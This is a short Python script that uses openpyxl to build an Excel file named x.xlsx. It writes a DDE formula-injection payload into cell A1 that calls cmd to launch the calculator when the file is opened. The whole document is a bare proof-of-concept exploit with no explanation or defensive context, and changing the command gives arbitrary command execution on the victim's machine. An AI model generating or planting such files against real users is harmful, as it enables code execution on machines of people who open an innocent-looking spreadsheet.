import openpyxl

book = openpyxl.Workbook()
sheet = book.active
sheet["A1"] = "=cmd|'/c calc'!A1"
book.save("x.xlsx")
